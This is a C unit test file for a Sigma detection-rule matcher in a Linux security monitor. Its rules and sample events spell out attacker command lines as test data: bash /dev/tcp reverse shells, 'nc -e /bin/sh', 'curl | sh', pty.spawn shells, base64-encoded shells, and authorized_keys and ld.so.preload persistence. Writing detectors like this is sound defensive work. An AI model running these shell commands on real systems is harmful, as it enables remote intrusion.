/* The matcher: Sigma rules compiled to Hyperscan/PCRE2 matchers, run on
 * flat events made from small JSON texts. Every modifier, wildcards and
 * escapes, case rules, null/exists, multi-valued fields, keywords, the
 * condition forms, categories and the Sigma field names. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <cmocka.h>
#include "engine/rule.h"
#include "event/flat.h"

struct fx {
	struct rule **rules;
	int nrules;
	struct matcher *m;
	struct vg_flat fl;
	char hits[4096];
};

static struct fx *fx_new(const char *yaml)
{
	struct fx *f = calloc(1, sizeof(*f));
	assert_non_null(f);
	struct strbuf errs;
	sb_init(&errs);
	sigma_parse(yaml, strlen(yaml), "t.yml", &f->rules, &f->nrules, &errs);
	if (errs.len)
		fprintf(stderr, "parse errors:\n%s", errs.buf);
	assert_int_equal(errs.len, 0);
	f->m = matcher_build(f->rules, f->nrules, &errs);
	if (errs.len)
		fprintf(stderr, "build errors:\n%s", errs.buf);
	assert_int_equal(errs.len, 0);
	assert_non_null(f->m);
	sb_free(&errs);
	vg_flat_init(&f->fl);
	return f;
}

static void fx_free(struct fx *f)
{
	matcher_free(f->m);
	for (int i = 0; i < f->nrules; i++)
		rule_free(f->rules[i]);
	free(f->rules);
	vg_flat_free(&f->fl);
	free(f);
}

static void on_hit(void *ctx, struct rule *r)
{
	struct fx *f = ctx;
	size_t l = strlen(f->hits);
	snprintf(f->hits + l, sizeof(f->hits) - l, "%s%s", l ? " " : "", r->id);
}

/* The ids of the rules an event matches, space separated, in rule order. */
static const char *run(struct fx *f, const char *json)
{
	assert_int_equal(vg_flatten_json(&f->fl, json, strlen(json)), 0);
	f->hits[0] = 0;
	matcher_run(f->m, &f->fl, on_hit, f);
	return f->hits;
}

#define EXEC(fields) "{\"event\":{\"action\":\"exec\"}," fields "}"
#define RULE(id, det) "title: " id "\nid: " id "\nlogsource: {product: linux, category: process_creation}\n" \
		      "detection:\n" det "\n---\n"

static void test_plain_case(void **state)
{
	struct fx *f = fx_new(RULE("eq", "  sel:\n    Image: /usr/bin/Bash\n  condition: sel")
			      RULE("cased", "  sel:\n    Image|cased: /usr/bin/Bash\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/bash\"}")), "eq");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/USR/BIN/BASH\"}")), "eq");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/Bash\"}")), "eq cased");
	/* equality is whole-value */
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/bash2\"}")), "");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"x/usr/bin/bash\"}")), "");
	/* a value with a newline after it is not equal */
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/bash\\n\"}")), "");
	assert_string_equal(run(f, EXEC("\"process\":{\"name\":\"bash\"}")), "");
	fx_free(f);
}

static void test_wildcards(void **state)
{
	struct fx *f = fx_new(RULE("star", "  sel:\n    Image: '/usr/*/ba?h'\n  condition: sel")
			      RULE("lit", "  sel:\n    CommandLine: 'echo \\*\\?'\n  condition: sel")
			      RULE("bs", "  sel:\n    CommandLine: 'a\\\\*'\n  condition: sel")
			      RULE("bs2", "  sel:\n    CommandLine: 'c:\\temp'\n  condition: sel")
			      RULE("any", "  sel:\n    process.name: '*'\n  condition: sel")
			      RULE("empty", "  sel:\n    process.name: ''\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/bash\"}")), "star");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/local/bin/bash\"}")), "star");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/baash\"}")), "");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/bax\"}")), "");
	/* \* and \? are literal */
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"echo *?\"}")), "lit");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"echo ab\"}")), "");
	/* \\* is a backslash then a wildcard */
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"a\\\\xyz\"}")), "bs");
	/* a lone backslash is literal */
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"C:\\\\TEMP\"}")), "bs2");
	assert_string_equal(run(f, EXEC("\"process\":{\"name\":\"x\"}")), "any");
	assert_string_equal(run(f, EXEC("\"process\":{\"name\":\"\"}")), "any empty");
	fx_free(f);
	f = fx_new(RULE("q", "  sel:\n    CommandLine: 'echo \\*\\?'\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"echo *?\"}")), "q");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"echo *x\"}")), "");
	fx_free(f);
}

static void test_positions(void **state)
{
	struct fx *f = fx_new(RULE("c", "  sel:\n    CommandLine|contains: /dev/tcp/\n  condition: sel")
			      RULE("s", "  sel:\n    CommandLine|startswith: 'bash -i'\n  condition: sel")
			      RULE("e", "  sel:\n    Image|endswith: [/nc, /ncat]\n  condition: sel")
			      RULE("w", "  sel:\n    CommandLine|contains: 'curl*| sh'\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"BASH -I >& /DEV/TCP/1.2.3.4/9 0>&1\"}")),
			    "c s");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"x bash -i\"}")), "");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/ncat\"}")), "e");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/nc\"}")), "e");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/nc.openbsd\"}")), "");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"sh -c 'curl -s http://x/a | sh'\"}")), "w");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"curl -s http://x/a\"}")), "");
	fx_free(f);
}

static void test_all(void **state)
{
	struct fx *f = fx_new(RULE("all", "  sel:\n    CommandLine|contains|all: [' -e ', /bin/sh]\n  condition: sel")
			      RULE("args", "  sel:\n    process.args|all: [nc, -e]\n  condition: sel")
			      RULE("any", "  sel:\n    CommandLine|contains: [' -e ', /bin/sh]\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"nc -e /bin/sh 1.2.3.4 9\","
					 "\"args\":[\"nc\",\"-e\",\"/bin/sh\",\"1.2.3.4\",\"9\"]}")),
			    "all args any");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"nc -l /bin/sh\",\"args\":[\"nc\",\"-l\"]}")),
			    "any");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"ls\",\"args\":[\"-e\"]}")), "");
	fx_free(f);
}

static void test_regex(void **state)
{
	struct fx *f = fx_new(RULE("re", "  sel:\n    CommandLine|re: 'python[23]? -c .*socket'\n  condition: sel")
			      RULE("rei", "  sel:\n    CommandLine|re|i: '^PYTHON'\n  condition: sel")
			      RULE("rem", "  sel:\n    CommandLine|re|m: '^second$'\n  condition: sel")
			      RULE("res", "  sel:\n    CommandLine|re|s: 'first.second'\n  condition: sel")
			      RULE("nos", "  sel:\n    CommandLine|re: 'first.second'\n  condition: sel")
			      /* backreference and lookahead: PCRE2 only */
			      RULE("back", "  sel:\n    CommandLine|re: '(ab)\\1'\n  condition: sel")
			      RULE("look", "  sel:\n    CommandLine|re: 'foo(?!bar)'\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"python3 -c import socket\"}")), "re rei");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"PYTHON3 -c import socket\"}")), "rei");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"python -c import socket\"}")), "re rei");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"first\\nsecond\"}")), "rem res");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"first second\"}")), "res nos");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"xababx\"}")), "back");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"xabx\"}")), "");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"foobaz\"}")), "look");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"foobar\"}")), "");
	fx_free(f);
}

#define NET(fields) "{\"event\":{\"action\":\"connect\"}," fields "}"
#define NRULE(id, det) "title: " id "\nid: " id "\nlogsource: {category: network_connection}\n" \
		       "detection:\n" det "\n---\n"

static void test_cidr(void **state)
{
	struct fx *f = fx_new(NRULE("v4", "  sel:\n    DestinationIp|cidr: [10.0.0.0/8, 192.168.1.0/24]\n  condition: sel")
			      NRULE("v6", "  sel:\n    DestinationIp|cidr: 'fd00::/8'\n  condition: sel")
			      NRULE("host", "  sel:\n    DestinationIp|cidr: 1.2.3.4\n  condition: sel")
			      NRULE("odd", "  sel:\n    DestinationIp|cidr: 172.16.0.0/12\n  condition: sel"));
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"10.1.2.3\"}")), "v4");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"192.168.1.77\"}")), "v4");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"192.168.2.77\"}")), "");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"11.0.0.1\"}")), "");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"fd12::1\"}")), "v6");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"fe80::1\"}")), "");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"::ffff:10.9.9.9\"}")), "v4");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"1.2.3.4\"}")), "host");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"1.2.3.5\"}")), "");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"172.31.255.255\"}")), "odd");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"172.32.0.0\"}")), "");
	assert_string_equal(run(f, NET("\"destination\":{\"ip\":\"not-an-ip\"}")), "");
	assert_string_equal(run(f, NET("\"source\":{\"ip\":\"10.0.0.1\"}")), "");
	fx_free(f);
}

static void test_base64(void **state)
{
	/* "bash -i" -> YmFzaCAtaQ==; offsets of " bash -i" / "  bash -i" */
	struct fx *f = fx_new(RULE("b64", "  sel:\n    CommandLine|base64|contains: 'bash -i'\n  condition: sel")
			      RULE("off", "  sel:\n    CommandLine|base64offset|contains: 'http://'\n  condition: sel")
			      RULE("eq", "  sel:\n    CommandLine|base64: 'id'\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"echo YmFzaCAtaQ | base64 -d\"}")), "b64");
	/* base64 is case-sensitive */
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"echo YMFZACATAQ\"}")), "");
	/* "http://" at the three alignments: b64("http://x"), b64("ahttp://x"), b64("abhttp://x") */
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"aHR0cDovL3g=\"}")), "off");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"YWh0dHA6Ly94\"}")), "off");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"YWJodHRwOi8veA==\"}")), "off");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"aWQ=\"}")), "eq");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"xaWQ=\"}")), "");
	fx_free(f);
}

static void test_exists_null(void **state)
{
	struct fx *f = fx_new(RULE("ex", "  sel:\n    process.parent.executable|exists: true\n  condition: sel")
			      RULE("noex", "  sel:\n    process.parent.executable|exists: false\n  condition: sel")
			      RULE("isnull", "  sel:\n    process.working_directory: null\n  condition: sel")
			      RULE("nullor", "  sel:\n    CommandLine: [null, 'ls']\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"parent\":{\"executable\":\"/bin/sh\"},"
					 "\"working_directory\":\"/\",\"command_line\":\"x\"}")),
			    "ex");
	assert_string_equal(run(f, EXEC("\"process\":{\"working_directory\":\"\",\"command_line\":\"ls\"}")),
			    "noex isnull nullor");
	assert_string_equal(run(f, EXEC("\"process\":{\"working_directory\":\"/\"}")), "noex nullor");
	fx_free(f);
}

static void test_numeric_fieldref(void **state)
{
	struct fx *f = fx_new(NRULE("gt", "  sel:\n    DestinationPort|gt: 1024\n  condition: sel")
			      NRULE("gte", "  sel:\n    DestinationPort|gte: 1024\n  condition: sel")
			      NRULE("lt", "  sel:\n    DestinationPort|lt: 22\n  condition: sel")
			      NRULE("lte", "  sel:\n    DestinationPort|lte: 22\n  condition: sel")
			      NRULE("ref", "  sel:\n    source.port|fieldref: DestinationPort\n  condition: sel"));
	assert_string_equal(run(f, NET("\"destination\":{\"port\":1024},\"source\":{\"port\":1}")), "gte");
	assert_string_equal(run(f, NET("\"destination\":{\"port\":4444},\"source\":{\"port\":4444}")), "gt gte ref");
	assert_string_equal(run(f, NET("\"destination\":{\"port\":22}")), "lte");
	assert_string_equal(run(f, NET("\"destination\":{\"port\":21}")), "lt lte");
	assert_string_equal(run(f, NET("\"destination\":{\"port\":\"x\"}")), "");
	fx_free(f);
	f = fx_new(RULE("same", "  sel:\n    Image|fieldref: vigil.exec.filename\n  condition: sel")
		   RULE("diff", "  sel:\n    Image|fieldref: vigil.exec.filename\n  condition: not sel")
		   RULE("ends", "  sel:\n    Image|fieldref|endswith: process.name\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/Ls\",\"name\":\"ls\"},"
					 "\"vigil\":{\"exec\":{\"filename\":\"/bin/ls\"}}")),
			    "same ends");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/busybox\",\"name\":\"ls\"},"
					 "\"vigil\":{\"exec\":{\"filename\":\"/bin/ls\"}}")),
			    "diff");
	fx_free(f);
}

static void test_windash(void **state)
{
	struct fx *f = fx_new(RULE("wd", "  sel:\n    CommandLine|windash|contains: ' -exec'\n  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"find . -exec sh\"}")), "wd");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"find . /exec sh\"}")), "wd");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"find . \xe2\x80\x93" "exec sh\"}")), "wd");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"find . +exec sh\"}")), "");
	fx_free(f);
}

static void test_keywords(void **state)
{
	struct fx *f = fx_new(RULE("kw", "  keywords:\n    - 'authorized_keys'\n    - 'ld.so.preload'\n  condition: keywords")
			      RULE("kwall", "  keywords:\n    '|all': [alpha, beta]\n  condition: keywords"));
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"cat >> /root/.ssh/AUTHORIZED_KEYS\"}")), "kw");
	assert_string_equal(run(f, EXEC("\"file\":{\"path\":\"/etc/ld.so.preload\"}")), "kw");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"alpha\",\"name\":\"beta\"}")), "kwall");
	assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"alpha\"}")), "");
	fx_free(f);
}

static void test_multivalued(void **state)
{
	struct fx *f = fx_new(RULE("arg", "  sel:\n    process.args: '-c'\n  condition: sel")
			      RULE("notarg", "  sel:\n    process.args: '-c'\n  condition: not sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"args\":[\"sh\",\"-c\",\"id\"]}")), "arg");
	assert_string_equal(run(f, EXEC("\"process\":{\"args\":[\"sh\",\"-x\",\"id\"]}")), "notarg");
	assert_string_equal(run(f, EXEC("\"process\":{\"args\":[]}")), "notarg");
	fx_free(f);
}

static void test_conditions(void **state)
{
	const char *sels = "  sel_a:\n    process.name: a\n  sel_b:\n    process.title: b\n"
			   "  _hidden:\n    process.vpid: 7\n";
	char buf[8192];
	snprintf(buf, sizeof(buf),
		 "title: and\nid: and\ndetection:\n%s  condition: sel_a and sel_b\n---\n"
		 "title: or\nid: or\ndetection:\n%s  condition: sel_a or sel_b\n---\n"
		 "title: not\nid: not\ndetection:\n%s  condition: not sel_a\n---\n"
		 "title: prec\nid: prec\ndetection:\n%s  condition: not sel_a and sel_b or _hidden\n---\n"
		 "title: par\nid: par\ndetection:\n%s  condition: not (sel_a or sel_b)\n---\n"
		 "title: one\nid: one\ndetection:\n%s  condition: 1 of sel_*\n---\n"
		 "title: any\nid: any\ndetection:\n%s  condition: any of sel_*\n---\n"
		 "title: allof\nid: allof\ndetection:\n%s  condition: all of sel_*\n---\n"
		 "title: onethem\nid: onethem\ndetection:\n%s  condition: 1 of them\n---\n"
		 "title: allthem\nid: allthem\ndetection:\n%s  condition: all of them\n---\n"
		 "title: list\nid: list\ndetection:\n%s  condition: [sel_a and sel_b, _hidden]\n---\n"
		 "title: nested\nid: nested\ndetection:\n%s  condition: ((sel_a) and not (not sel_b))\n",
		 sels, sels, sels, sels, sels, sels, sels, sels, sels, sels, sels, sels);
	struct fx *f = fx_new(buf);
	/* an event of no category: rules without a category apply to it */
	assert_string_equal(run(f, "{\"process\":{\"name\":\"a\",\"title\":\"b\"}}"),
			    "and or one any allof onethem allthem list nested");
	assert_string_equal(run(f, "{\"process\":{\"name\":\"a\"}}"), "or one any onethem");
	assert_string_equal(run(f, "{\"process\":{\"title\":\"b\"}}"), "or not prec one any onethem");
	assert_string_equal(run(f, "{\"process\":{\"vpid\":7}}"), "not prec par list");
	assert_string_equal(run(f, "{\"process\":{\"name\":\"zzz\"}}"), "not par");
	fx_free(f);
}

static void test_alternatives(void **state)
{
	/* a list of maps: any map; inside a map: every item */
	struct fx *f = fx_new(RULE("alt", "  sel:\n    - Image|endswith: /python3\n      CommandLine|contains: pty.spawn\n"
					  "    - Image|endswith: /perl\n      CommandLine|contains: 'exec \"/bin/sh\"'\n"
					  "  condition: sel"));
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/python3\",\"command_line\":"
					 "\"python3 -c 'import pty;pty.spawn(\\\"/bin/bash\\\")'\"}")),
			    "alt");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/perl\",\"command_line\":"
					 "\"perl -e 'exec \\\"/bin/sh\\\";'\"}")),
			    "alt");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/perl\",\"command_line\":"
					 "\"python3 pty.spawn\"}")),
			    "");
	fx_free(f);
}

static void test_categories(void **state)
{
	struct fx *f = fx_new(RULE("proc", "  sel:\n    process.name: x\n  condition: sel")
			      "title: file\nid: file\nlogsource: {product: linux, category: file_event}\n"
			      "detection:\n  sel:\n    process.name: x\n  condition: sel\n---\n"
			      "title: nocat\nid: nocat\ndetection:\n  sel:\n    process.name: x\n  condition: sel\n---\n"
			      "title: win\nid: win\nlogsource: {product: windows, category: process_creation}\n"
			      "detection:\n  sel:\n    process.name: x\n  condition: sel\n---\n"
			      "title: audit\nid: audit\nlogsource: {product: linux, service: auditd}\n"
			      "detection:\n  sel:\n    process.name: x\n  condition: sel\n---\n"
			      "title: ptrace\nid: ptrace\nlogsource: {product: linux, category: ptrace}\n"
			      "detection:\n  sel:\n    process.name: x\n  condition: not sel\n");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"exec\"},\"process\":{\"name\":\"x\"}}"), "proc nocat");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"file_create\"},\"process\":{\"name\":\"x\"}}"),
			    "file nocat");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"file_open_write\"},\"process\":{\"name\":\"x\"}}"),
			    "file nocat");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"fork\"},\"process\":{\"name\":\"x\"}}"), "nocat");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"ptrace\"},\"process\":{\"name\":\"y\"}}"), "ptrace");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"ptrace\"},\"process\":{\"name\":\"x\"}}"), "nocat");
	fx_free(f);

	struct vg_flat fl;
	vg_flat_init(&fl);
	static const char *const pairs[][2] = {
		{"exec", "process_creation"}, {"file_create", "file_event"}, {"file_open_write", "file_event"},
		{"file_rename", "file_rename"}, {"file_delete", "file_delete"}, {"file_chmod", "file_change"},
		{"file_chown", "file_change"}, {"file_utimes", "file_change"}, {"file_truncate", "file_change"},
		{"file_link", "file_change"}, {"file_symlink", "file_change"}, {"connect", "network_connection"},
		{"accept", "network_connection"}, {"bind", "network_connection"}, {"listen", "network_connection"},
		{"dns_query", "dns_query"}, {"ptrace", "ptrace"}, {"module_load", "module_load"},
		{"cred_change", "cred_change"}, {"mount", "mount"}, {"signal", "signal"},
		{"memfd_create", "memfd_create"}, {"comm_change", "comm_change"},
		{"file_read_sensitive", "file_read_sensitive"}, {"socket_raw", "socket_raw"},
		{"bpf_prog_load", "bpf_prog_load"}, {"exit", "exit"}, {"fork", "fork"},
	};
	for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
		char js[128];
		snprintf(js, sizeof(js), "{\"event\":{\"kind\":\"event\",\"action\":\"%s\"}}", pairs[i][0]);
		assert_int_equal(vg_flatten_json(&fl, js, strlen(js)), 0);
		assert_non_null(event_category(&fl));
		assert_string_equal(event_category(&fl), pairs[i][1]);
	}
	assert_int_equal(vg_flatten_json(&fl, "{\"event\":{\"action\":\"nope\"}}", 28), 0);
	assert_null(event_category(&fl));
	vg_flat_free(&fl);
}

static void test_sigma_fields(void **state)
{
	struct fx *f = fx_new(RULE("img", "  sel:\n    Image: /bin/sh\n    ParentImage|endswith: /nginx\n"
					  "    ParentCommandLine|contains: worker\n    CurrentDirectory: /var/www\n"
					  "    ProcessId: 42\n    ParentProcessId: 41\n    LogonId: 40\n  condition: sel")
			      RULE("root", "  sel:\n    User: root\n  condition: sel")
			      RULE("uid", "  sel:\n    User: 1000\n  condition: sel")
			      RULE("hash", "  sel:\n    Hashes|contains: 'SHA256=ABCDEF'\n  condition: sel")
			      NRULE("out", "  sel:\n    Initiated: 'true'\n    DestinationPort: 4444\n  condition: sel")
			      NRULE("in", "  sel:\n    Initiated: 'false'\n  condition: sel")
			      "title: dns\nid: dns\nlogsource: {category: dns_query}\ndetection:\n  sel:\n"
			      "    QueryName|endswith: .onion\n  condition: sel\n---\n"
			      "title: tf\nid: tf\nlogsource: {category: file_rename}\ndetection:\n  sel:\n"
			      "    TargetFilename|endswith: .locked\n    SourceFilename|endswith: .docx\n  condition: sel\n");
	assert_string_equal(run(f, EXEC("\"process\":{\"pid\":42,\"executable\":\"/bin/sh\",\"working_directory\":"
					 "\"/var/www\",\"parent\":{\"pid\":41,\"executable\":\"/usr/sbin/nginx\","
					 "\"command_line\":\"nginx: worker process\"}},\"vigil\":{\"sid\":40}")),
			    "img");
	assert_string_equal(run(f, EXEC("\"user\":{\"id\":0}")), "root");
	assert_string_equal(run(f, EXEC("\"user\":{\"id\":1000}")), "uid");
	assert_string_equal(run(f, EXEC("\"user\":{\"id\":5,\"name\":\"root\"}")), "root");
	assert_string_equal(run(f, EXEC("\"process\":{\"hash\":{\"sha256\":\"00abcdef11\"}}")), "hash");
	assert_string_equal(run(f, NET("\"network\":{\"direction\":\"egress\"},\"destination\":{\"port\":4444}")), "out");
	assert_string_equal(run(f, NET("\"network\":{\"direction\":\"ingress\"},\"destination\":{\"port\":4444}")), "in");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"dns_query\"},\"dns\":{\"question\":{\"name\":\"x.ONION\"}}}"),
			    "dns");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"file_rename\"},\"file\":{\"path\":\"/h/a.docx.locked\"},"
				   "\"vigil\":{\"file\":{\"old_path\":\"/h/a.docx\"}}}"),
			    "tf");
	fx_free(f);
}

/* Many rules: the right ones fire, and only candidates are evaluated. */
static void test_many_rules(void **state)
{
	struct strbuf y;
	sb_init(&y);
	for (int i = 0; i < 500; i++)
		sb_printf(&y,
			  "title: r%d\nid: r%d\nlogsource: {category: process_creation}\ndetection:\n"
			  "  sel:\n    Image|endswith: /tool%d\n    CommandLine|contains: '--flag%d '\n"
			  "  filter:\n    User: 12345\n  condition: sel and not filter\n---\n",
			  i, i, i, i);
	struct fx *f = fx_new(y.buf);
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/tool77\",\"command_line\":"
					 "\"tool77 --flag77 --flag78 \"},\"user\":{\"id\":1}")),
			    "r77");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/tool77\",\"command_line\":"
					 "\"tool77 --flag77 \"},\"user\":{\"id\":12345}")),
			    "");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/usr/bin/tool499\",\"command_line\":"
					 "\"--flag499 \"}")),
			    "r499");
	/* the same matcher over and over: per-event state does not leak */
	for (int i = 0; i < 1000; i++)
		assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/x/tool3\",\"command_line\":\"--flag4 \"}")),
				    "");
	fx_free(f);
	sb_free(&y);
}

/* ---- the index by category, the scan memo and lazy fields ------------- */

#define CRULE(id, cat, det) "title: " id "\nid: " id "\nlogsource: {product: linux, category: " cat "}\n" \
			    "detection:\n" det "\n---\n"
#define ACT(action, fields) "{\"event\":{\"action\":\"" action "\"}," fields "}"

static void test_category_excludes(void **state)
{
	/* the same values in events of several categories: a rule only ever
	 * matches events of its own, however often the values repeat */
	struct fx *f = fx_new(CRULE("fe", "file_event", "  sel:\n    process.executable|endswith: /w\n  condition: sel")
			      CRULE("fr", "file_rename", "  sel:\n    process.executable|endswith: /w\n  condition: sel")
			      CRULE("fenot", "file_event", "  sel:\n    file.path|startswith: /etc/\n"
							   "  condition: not sel")
			      CRULE("pc", "process_creation", "  sel:\n    process.executable|endswith: /w\n"
								"  condition: sel"));
	const char *vals = "\"process\":{\"executable\":\"/tmp/w\"},\"file\":{\"path\":\"/tmp/f\"}";
	char js[512];
	for (int i = 0; i < 3; i++) {
		snprintf(js, sizeof(js), "{\"event\":{\"action\":\"file_create\"},%s}", vals);
		assert_string_equal(run(f, js), "fe fenot");
		snprintf(js, sizeof(js), "{\"event\":{\"action\":\"file_rename\"},%s}", vals);
		assert_string_equal(run(f, js), "fr");
		snprintf(js, sizeof(js), "{\"event\":{\"action\":\"file_delete\"},%s}", vals);
		assert_string_equal(run(f, js), "");
		snprintf(js, sizeof(js), "{\"event\":{\"action\":\"exec\"},%s}", vals);
		assert_string_equal(run(f, js), "pc");
		/* no action: no category, and every rule here has one */
		snprintf(js, sizeof(js), "{%s}", vals);
		assert_string_equal(run(f, js), "");
	}
	/* a negated rule of the category is evaluated for each of its events */
	assert_string_equal(run(f, ACT("file_create", "\"file\":{\"path\":\"/etc/x\"}")), "");
	assert_string_equal(run(f, ACT("file_open_write", "\"file\":{\"path\":\"/var/x\"}")), "fenot");
	fx_free(f);
}

static void test_scan_memo(void **state)
{
	/* ten rules matching one value (more matches than the memo keeps),
	 * one value longer than it keeps, and one value on two fields */
	struct strbuf y;
	sb_init(&y);
	for (int i = 0; i < 10; i++)
		sb_printf(&y, RULE("m%d", "  sel:\n    CommandLine|contains: 'part%d '\n  condition: sel"), i, i, i);
	sb_puts(&y, RULE("long", "  sel:\n    CommandLine|endswith: 'zz-end'\n  condition: sel")
		    RULE("img", "  sel:\n    Image: /bin/same\n  condition: sel")
		    RULE("par", "  sel:\n    ParentImage: /bin/same\n  condition: sel"));
	struct fx *f = fx_new(y.buf);
	char longv[1200];
	memset(longv, 'a', 1000);
	strcpy(longv + 1000, "zz-end");
	char js[1600], js2[1600];
	snprintf(js, sizeof(js), EXEC("\"process\":{\"command_line\":\"%s\"}"),
		 "part0 part1 part2 part3 part4 part5 part6 part7 part8 part9 ");
	snprintf(js2, sizeof(js2), EXEC("\"process\":{\"command_line\":\"%s\"}"), longv);
	for (int i = 0; i < 4; i++) {
		assert_string_equal(run(f, js), "m0 m1 m2 m3 m4 m5 m6 m7 m8 m9");
		assert_string_equal(run(f, js2), "long");
		assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/same\"}")), "img");
		assert_string_equal(run(f, EXEC("\"process\":{\"parent\":{\"executable\":\"/bin/same\"}}")), "par");
		/* one byte off: not the remembered value */
		assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/samE\"}")), "img");
		assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/sam\"}")), "");
		assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/same \"}")), "");
		assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"part3 \"}")), "m3");
		assert_string_equal(run(f, EXEC("\"process\":{\"command_line\":\"\"}")), "");
	}
	/* many distinct values through a small memo: each still scanned right */
	for (int i = 0; i < 2000; i++) {
		snprintf(js, sizeof(js), EXEC("\"process\":{\"command_line\":\"x%d part%d \"}"), i, i % 13);
		char want[8] = "";
		if (i % 13 < 10)
			snprintf(want, sizeof(want), "m%d", i % 13);
		assert_string_equal(run(f, js), want);
	}
	fx_free(f);
	sb_free(&y);
}

static void test_lazy_fields(void **state)
{
	/* process.command_line and user.* appear only in filters here: they
	 * are scanned when a candidate reads them, and must then be exact */
	struct fx *f = fx_new(RULE("flt", "  sel:\n    Image|endswith: /tool\n  filter:\n    CommandLine|contains: safe\n"
					  "  condition: sel and not filter")
			      RULE("args", "  sel:\n    Image|endswith: /tool\n  filter:\n    process.args: '--ok'\n"
					   "  condition: sel and not filter")
			      RULE("usr", "  sel:\n    Image|endswith: /tool\n  filter:\n    User: root\n"
					  "  condition: sel and not filter")
